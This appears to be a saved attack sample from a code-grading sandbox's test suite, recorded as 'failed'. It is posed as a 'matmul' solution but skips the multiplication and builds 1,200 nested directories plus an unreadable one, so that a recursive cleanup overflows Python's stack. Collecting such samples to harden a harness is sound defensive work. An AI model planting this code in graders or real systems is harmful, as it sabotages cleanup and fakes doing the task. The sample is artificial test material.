# attack: more nested folders than Python has stack, so that whoever tidies up stumbles
# exercise: matmul
# verdict: failed
# settings: timeout_s=5
import os


top = os.getcwd()


def matmul(a, b):
    os.chdir(top)
    if not os.path.exists("deep"):
        for _ in range(1_200):
            os.mkdir("deep")
            os.chdir("deep")
        open("file", "w").close()
        os.mkdir("closed", 0)
    return None
